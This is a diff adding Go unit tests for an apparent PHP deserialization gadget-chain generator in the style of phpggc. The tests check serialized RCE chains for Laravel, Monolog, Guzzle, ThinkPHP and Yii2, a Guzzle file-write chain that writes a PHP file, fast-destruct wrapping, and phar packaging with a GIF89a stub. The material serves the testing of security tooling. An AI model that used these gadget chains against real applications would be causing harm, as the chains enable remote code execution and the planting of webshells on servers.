@@ -0,0 +1,95 @@
+package phpggc
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/yaklang/yaklang/common/phpserx"
+)
+
+func TestGenerateAllChains(t *testing.T) {
+	keywords := map[string][]string{
+		"Laravel/RCE1":  {`Illuminate\Broadcasting\PendingBroadcast`, `Faker\Generator`, `s:8:"dispatch";s:6:"system"`},
+		"Laravel/RCE2":  {`Illuminate\Events\Dispatcher`, `s:12:"` + "\x00*\x00" + `listeners"`},
+		"Laravel/RCE9":  {`Illuminate\Bus\Dispatcher`, `Illuminate\Broadcasting\BroadcastEvent`},
+		"Monolog/RCE1":  {`Monolog\Handler\SyslogUdpHandler`, `Monolog\Handler\BufferHandler`, `s:7:"current";i:1;s:6:"system"`},
+		"Guzzle/RCE1":   {`GuzzleHttp\Psr7\FnStream`, `s:9:"_fn_close";a:2:{i:0;r:4;i:1;s:7:"resolve";}`},
+		"ThinkPHP/RCE1": {`think\process\pipes\Windows`, `think\Request`, `s:6:"isAjax"`},
+		"Yii2/RCE1":     {`yii\db\BatchQueryResult`, `yii\rest\IndexAction`, `s:5:"close"`},
+		"Yii2/RCE2":     {`Codeception\Extension\RunProcess`, `s:9:"isRunning"`},
+	}
+	for _, chain := range GetAllRCEChains() {
+		payload, err := Generate(chain.Name, "whoami")
+		if err != nil {
+			t.Fatalf("generate %s failed: %v", chain.Name, err)
+		}
+		if payload.Verbose().Name != chain.Name {
+			t.Fatalf("chain %s verbose mismatch: %s", chain.Name, payload.Verbose().Name)
+		}
+		raw, err := ToBytes(payload)
+		if err != nil {
+			t.Fatal(err)
+		}
+		objs, err := phpserx.ParsePHPSerialized(raw)
+		if err != nil {
+			t.Fatalf("parse %s failed: %v\n%s", chain.Name, err, raw)
+		}
+		if !bytes.Equal(phpserx.MarshalPHPSerialized(objs...), raw) {
+			t.Fatalf("chain %s round trip mismatch", chain.Name)
+		}
+		for _, keyword := range append(keywords[chain.Name], `s:6:"whoami"`) {
+			if !bytes.Contains(raw, []byte(keyword)) {
+				t.Fatalf("chain %s missing %q:\n%s", chain.Name, keyword, raw)
+			}
+		}
+	}
+	if len(keywords) != len(GetAllRCEChains()) {
+		t.Fatalf("rce chains changed: %d", len(GetAllRCEChains()))
+	}
+}
+
+func TestFileWriteChain(t *testing.T) {
+	payload, err := Generate("Guzzle/FW1", "/tmp/a.php", "<?php phpinfo();?>")
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw := payload.Bytes()
+	for _, keyword := range []string{`s:10:"/tmp/a.php"`, `s:18:"<?php phpinfo();?>"`, "\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename"} {
+		if !bytes.Contains(raw, []byte(keyword)) {
+			t.Fatalf("missing %q:\n%s", keyword, raw)
+		}
+	}
+	if _, err := Generate("Guzzle/FW1", "/tmp/a.php"); err == nil {
+		t.Fatal("file write chain should need 2 arguments")
+	}
+	if _, err := Generate("Laravel/RCE100", "whoami"); err == nil {
+		t.Fatal("unknown chain should fail")
+	}
+}
+
+func TestFastDestructAndPhar(t *testing.T) {
+	payload, err := GetLaravelRCE1Payload("system", "id")
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw := FastDestruct(payload).Bytes()
+	if !strings.HasPrefix(string(raw), "a:2:{i:7;O:40:") || !strings.HasSuffix(string(raw), "i:7;i:7;}") {
+		t.Fatalf("fast destruct failed: %s", raw)
+	}
+
+	pharRaw, err := ToPhar(payload, phpserx.WithPharStub("GIF89a"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	phar, err := phpserx.ParsePhar(pharRaw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.HasPrefix(phar.Stub, []byte("GIF89a")) || !bytes.Equal(phar.Metadata, payload.Bytes()) {
+		t.Fatalf("phar metadata mismatch: %q", phar.Metadata)
+	}
+	if !strings.Contains(Dump(payload), "PendingBroadcast") {
+		t.Fatal("dump failed")
+	}
+}